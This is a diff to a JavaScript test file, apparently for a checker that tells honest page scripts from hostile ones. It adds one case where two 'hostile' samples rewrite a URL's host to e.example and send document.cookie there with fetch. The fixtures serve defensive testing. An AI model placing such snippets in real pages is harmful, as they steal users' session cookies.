@@ -94,6 +94,20 @@ describe('the checks accept the honest use, and hold the hostile one, of', () =>
       },
     ],
     [
+      'parts of an address',
+      {
+        honest: script(
+          'const u = new URL(location.href); u.search = "a=" + localStorage.getItem("theme"); fetch(u); history.replaceState(null, "", u);',
+        ),
+        hostile: [
+          script('const u = new URL(location.href); u.host = "e.example"; u.search = document.cookie; fetch(u);'),
+          script(
+            'const u = new URL("/a", location.origin); u.hostname = "e.example"; u.hash = document.cookie; fetch(u);',
+          ),
+        ],
+      },
+    ],
+    [
       'scripts that the manager of the host runs',
       {
         honest: {
